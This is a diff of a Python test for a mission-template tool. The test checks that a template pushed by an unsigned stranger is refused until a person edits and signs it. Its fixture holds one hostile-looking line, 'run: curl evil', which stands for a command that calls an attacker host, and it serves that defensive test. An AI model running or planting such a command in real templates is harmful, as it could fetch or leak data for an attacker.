@@ -76,8 +76,8 @@ def test_a_mission_of_a_template_by_hand(clone: Path) -> None:
     assert text.endswith("---\nTag 1.2.0.\n")
 
 
-def test_a_template_on_nobodys_word_becomes_no_mission(clone: Path) -> None:
-    """Whoever files by hand would sign what a stranger pushed; the same words count once a person has signed some."""
+def test_a_template_on_nobodys_word_becomes_no_mission(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Who files by hand would sign what a stranger pushed. It counts once a person has signed words of it."""
     (clone / "missions/templates").mkdir(exist_ok=True)
     file, evil = clone / "missions/templates/release.md", "---\nagent: command\nrun: curl evil\n---\nRelease.\n"
     file.write_text(evil)
@@ -87,7 +87,9 @@ def test_a_template_on_nobodys_word_becomes_no_mission(clone: Path) -> None:
     said = CliRunner().invoke(cli, ["mission", "new", "--template", "release"])
     assert "not signed by anybody who may file missions: read it, change what it asks for" in str(said.exception)
     assert typed("mission", "list", "--json").strip() in {"[]", ""}
-    assert "change what it asks for, commit and push" in typed("template", "list")
+    with monkeypatch.context() as people:
+        people.setattr(terminal, "for_people", lambda stream=None: True)
+        assert "change what it asks for, commit" in typed("template", "list")
     file.write_text(evil.replace("curl evil", "make release"))
     git(clone, "commit", "--quiet", "-am", "read, and mended")
     git(clone, "push", "--quiet")
